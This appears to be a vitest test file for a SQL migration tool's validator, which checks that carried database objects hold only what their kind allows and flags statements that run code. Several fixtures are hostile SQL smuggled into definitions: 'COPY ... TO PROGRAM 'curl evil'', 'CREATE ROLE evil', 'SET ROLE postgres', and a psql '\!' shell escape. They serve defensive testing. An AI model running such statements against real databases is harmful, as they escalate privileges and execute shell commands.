import { describe, expect, it } from 'vitest';
import type { RawObjectKind } from './document.ts';
import { customStatements, rawDefinitionProblem } from './sql-raw-objects.ts';

const FUNCTION = "CREATE FUNCTION public.twice(x integer) RETURNS integer LANGUAGE sql AS $$ SELECT x * 2 $$;";
const WITH_PATH = (sql: string) => `SET search_path = app, pg_catalog;\n${sql}\nRESET search_path;`;
const DO_BLOCK = "DO $$ BEGIN RAISE NOTICE 'hello'; END $$;";

/** [case, kind, definition, problem fragment or undefined]. */
const DEFINITIONS: Array<[string, RawObjectKind, string, string | undefined]> = [
  ['a function', 'function', FUNCTION, undefined],
  ['a function with its comment, owner and settings', 'function',
    `${FUNCTION}\nCOMMENT ON FUNCTION public.twice(integer) IS 'x2';\nALTER FUNCTION public.twice(integer) OWNER TO app;\nALTER FUNCTION public.twice(integer) SET work_mem = '64MB';`, undefined],
  ['a function inside SET search_path … RESET (as the SQL import writes it)', 'function', WITH_PATH(FUNCTION), undefined],
  ['a DO block creating functions (the SQL import keeps it as a function)', 'function', DO_BLOCK, undefined],
  ['a function that also creates a role', 'function', `${FUNCTION}\nCREATE ROLE evil;`, 'CreateRole statement'],
  ['a function that also switches role', 'function', `SET ROLE postgres;\n${FUNCTION}`, 'VariableSet statement'],
  ['a procedure as a function', 'function', 'CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$;', 'CreateFunction statement'],
  ['a procedure', 'procedure', 'CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$;', undefined],
  ['a trigger', 'trigger', 'CREATE TRIGGER t BEFORE INSERT ON public.orders FOR EACH ROW EXECUTE FUNCTION public.stamp();', undefined],
  ['a trigger that also copies data out', 'trigger',
    "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION stamp();\nCOPY orders TO PROGRAM 'curl evil';", 'Copy statement'],
  ['a policy', 'policy', 'CREATE POLICY p ON public.orders USING (owner = current_user);', undefined],
  ['a rule', 'rule', 'CREATE RULE r AS ON DELETE TO public.orders DO INSTEAD NOTHING;', undefined],
  ['an aggregate', 'aggregate', 'CREATE AGGREGATE public.total(integer) (SFUNC = int4pl, STYPE = integer);', undefined],
  ['an operator', 'operator', 'CREATE OPERATOR public.=== (LEFTARG = integer, RIGHTARG = integer, FUNCTION = int4eq);', undefined],
  ['a collation', 'collation', "CREATE COLLATION public.german (provider = libc, locale = 'de_DE');", undefined],
  ['a composite type', 'type', 'CREATE TYPE public.pair AS (a integer, b integer);', undefined],
  ['a text search configuration', 'text-search', 'CREATE TEXT SEARCH CONFIGURATION public.en (COPY = english);', undefined],
  ['a cast', 'cast', 'CREATE CAST (text AS integer) WITH INOUT;', undefined],
  ['an event trigger', 'event-trigger', 'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.log_ddl();', undefined],
  ['a grant', 'grant', 'GRANT SELECT ON public.orders TO reporting;', undefined],
  ['only a comment, no function', 'function', "COMMENT ON FUNCTION f() IS 'x';", 'holds no function definition'],
  ['a DO block in kind other', 'other', DO_BLOCK, undefined],
  ['free SQL in kind other', 'other', "CREATE ROLE evil;\nSELECT 1;\nCOPY (SELECT 1) TO PROGRAM 'touch /tmp/x';", undefined],
  ['a trailing comment', 'function', `${FUNCTION} -- swallows the next ;`, 'ends in a -- comment'],
  ['a psql meta-command', 'other', "\\! touch /tmp/x\nSELECT 1;", 'backslash command'],
  ['SQL that does not parse', 'other', 'CREATE TABLE ();', 'not valid SQL'],
];

describe('carried objects hold exactly what their kind allows', () => {
  it.each(DEFINITIONS)('%s', (_case, kind, definition, problem) => {
    if (problem === undefined) expect(rawDefinitionProblem(kind, definition)).toBeUndefined();
    else expect(rawDefinitionProblem(kind, definition)).toContain(problem);
  });
});

describe('statements that run code when applied (the runs-custom-sql hazard)', () => {
  it.each([
    ['a function: its body runs later, not at CREATE', 'function', WITH_PATH(FUNCTION), []],
    ['a trigger', 'trigger', 'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION stamp();', []],
    ['a DO block kept as a function', 'function', DO_BLOCK, ['Do']],
    ['a DO block', 'other', DO_BLOCK, ['Do']],
    ['an event trigger: it fires on the rest of the migration', 'event-trigger', 'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();', ['CreateEventTrig']],
    ['free statements', 'other', "CREATE ROLE evil;\nSELECT pg_sleep(1);\nCOPY t TO PROGRAM 'x';", ['CreateRole', 'Select', 'Copy']],
    ['a carried constraint and its comment (introspection writes these)', 'other',
      "ALTER TABLE public.room ADD CONSTRAINT no_overlap EXCLUDE USING gist (during WITH &&);\nCOMMENT ON CONSTRAINT no_overlap ON public.room IS 'x';", []],
    ['row level security switches', 'other', 'ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;\nALTER TABLE public.t FORCE ROW LEVEL SECURITY;', []],
    ['an ALTER TABLE that drops a column', 'other', 'ALTER TABLE public.t DROP COLUMN secret;', ['AlterTable']],
  ] as Array<[string, RawObjectKind, string, string[]]>)('%s', (_case, kind, definition, expected) => {
    expect(customStatements(kind, definition)).toEqual(expected);
  });
});
